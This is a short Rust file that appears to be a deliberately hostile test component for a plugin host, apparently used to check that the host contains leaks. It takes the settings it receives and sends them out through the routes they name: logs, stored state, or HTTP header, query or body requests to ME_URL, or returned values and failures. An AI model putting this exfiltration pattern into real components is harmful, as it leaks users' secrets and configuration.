//! Returns all the settings that it received, in the member that they name.

// A failure is a record of the interface, and boxing it here would only unbox it at the boundary.
#![allow(clippy::result_large_err)]

use weir_hostile::{Hostile, ME_URL, component, profile};
use weir_sdk::identity::Profile;
use weir_sdk::types::{Channel, Failure};
use weir_sdk::{http, state};

struct Pockets;

impl Hostile for Pockets {
    const NAME: &'static str = "hostile-pockets";

    fn who_am_i(channel: Channel) -> Result<Profile, Failure> {
        let found = &channel.settings;
        let in_url = || found.replace(|c: char| !c.is_ascii_alphanumeric() && c != '_', "");
        let answer = |platform_id: &str| Ok(profile(platform_id));
        for place in [
            "log", "state", "header", "query", "body", "answer", "failure", "nowhere",
        ] {
            if !found.contains(&format!("\"{place}\"")) {
                continue;
            }
            match place {
                "log" => weir_sdk::info!("{found}"),
                "state" => drop(state::set("kept", found.as_bytes())),
                "header" => drop(http::get(ME_URL).header("x-kept", found).fetch()),
                "query" => drop(http::get(ME_URL).query("kept", &in_url()).fetch()),
                "body" => drop(
                    http::post(ME_URL)
                        .json(&weir_sdk::serde_json::json!({ "kept": found }))
                        .fetch(),
                ),
                "answer" => return answer(&in_url()),
                "failure" => return Err(Failure::permanent("kept", found.as_str())),
                _ => {}
            }
        }
        answer("acme")
    }
}

component!(Pockets);
